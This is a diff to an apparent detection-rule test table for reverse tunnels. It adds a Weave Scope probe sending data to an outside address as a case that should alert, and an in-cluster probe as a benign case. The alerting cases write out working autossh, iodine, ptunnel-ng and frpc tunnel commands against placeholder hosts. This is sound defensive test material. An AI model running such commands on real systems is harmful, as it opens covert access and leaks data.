@@ -11,9 +11,21 @@ indicatorTable(commandReverseTunnel, {
     'with the option joined': script('autossh -M 0 -oUserKnownHostsFile=/dev/null -NR 9000:web:80 t@gw.example.net'),
     'a connection that hides in names': script('iodine -f -P secret t1.example.net'),
     'a connection that hides in pings': runs('ptunnel-ng', '-p', '203.0.113.7', '-lp', '8000'),
+    'a probe of Weave Scope for somebody outside': runs(
+      'scope',
+      '--mode=probe',
+      '--probe.docker=true',
+      'http://@203.0.113.7:4040',
+    ),
     'a proxy with a way to it': script('microsocks -p 1080 & frpc tcp --server-addr 203.0.113.7 --local-port 1080'),
   },
   staysSilent: {
+    'a probe of Weave Scope for its own map': runs(
+      'scope',
+      '--mode=probe',
+      '--probe.docker=true',
+      'weave-scope-app.weave.svc:80',
+    ),
     'an application of that name': runs('/app/iodine', 'run', '--config', '/etc/app/config.yaml'),
     'a proxy for the pod itself': script(
       'microsocks -i 127.0.0.1 -p 1080 & curl -x socks5://127.0.0.1 https://example.com',
